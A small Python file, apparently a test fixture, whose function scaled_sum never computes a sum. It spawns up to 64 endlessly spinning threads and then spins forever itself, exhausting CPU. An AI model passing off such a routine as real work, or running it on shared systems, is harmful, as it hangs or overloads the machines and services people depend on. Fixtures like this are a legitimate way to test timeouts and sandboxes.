"""Spawns threads that spin, and a busy loop in the main thread."""
import threading


def spin():
    while True:
        pass


def scaled_sum(x, alpha):
    for _ in range(64):
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            break
    spin()
